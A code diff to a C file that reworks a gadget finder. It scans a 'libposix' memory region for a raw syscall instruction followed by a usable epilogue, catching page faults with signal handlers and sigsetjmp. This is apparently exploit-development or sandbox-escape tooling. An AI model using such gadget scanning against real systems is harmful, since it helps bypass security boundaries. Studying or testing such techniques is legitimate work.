@@ -27,6 +27,7 @@
 #include <errno.h>
 #include <stdarg.h>
 #include <fcntl.h>
+#include <setjmp.h>
 #include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -124,6 +125,8 @@ static int readable(uint64_t addr, size_t n)
 /* The gadget: `syscall` followed by an epilogue that only pops into
  * callee-saved registers, loads from rbp into them, leaves, adjusts rsp
  * and returns (so the result registers survive it). */
+static uint64_t scan_page(uint64_t page);
+
 static int epilogue_ok(const uint8_t *p)
 {
 	for (int i = 0; i < 24;) {
@@ -148,16 +151,37 @@ static int epilogue_ok(const uint8_t *p)
 	return 0;
 }
 
+/* libposix's region is no memory of ours to a syscall (EFAULT), so its
+ * pages are read directly, a fault ending the scan (a SIGSEGV handler). */
+static sigjmp_buf scan_jmp;
+
+static void scan_fault(int sig)
+{
+	(void)sig;
+	siglongjmp(scan_jmp, 1);
+}
+
 static uint64_t find_gadget(void)
 {
-	for (uint64_t page = POSIX_BASE; page < POSIX_BASE + (4ul << 20); page += POSIX_PAGE_SIZE) {
-		if (!readable(page, 1) || !readable(page + POSIX_PAGE_SIZE - 32, 32))
-			continue;
-		const uint8_t *b = (const uint8_t *)page;
-		for (int i = 0; i < (int)POSIX_PAGE_SIZE - 32; i++)
-			if (b[i] == 0x0f && b[i + 1] == 0x05 && epilogue_ok(b + i + 2))
-				return page + (uint64_t)i;
-	}
+	struct sigaction sa = { .sa_handler = scan_fault }, old_segv, old_bus;
+	sigaction(SIGSEGV, &sa, &old_segv);
+	sigaction(SIGBUS, &sa, &old_bus);
+	uint64_t found = 0;
+	volatile uint64_t page = POSIX_BASE;
+	if (sigsetjmp(scan_jmp, 1) == 0)
+		for (; page < POSIX_BASE + (4ul << 20) && !found; page += POSIX_PAGE_SIZE)
+			found = scan_page(page);
+	sigaction(SIGSEGV, &old_segv, NULL);
+	sigaction(SIGBUS, &old_bus, NULL);
+	return found;
+}
+
+static uint64_t scan_page(uint64_t page)
+{
+	const uint8_t *b = (const uint8_t *)page;
+	for (int i = 0; i < (int)POSIX_PAGE_SIZE - 32; i++)
+		if (b[i] == 0x0f && b[i + 1] == 0x05 && epilogue_ok(b + i + 2))
+			return page + (uint64_t)i;
 	return 0;
 }
 
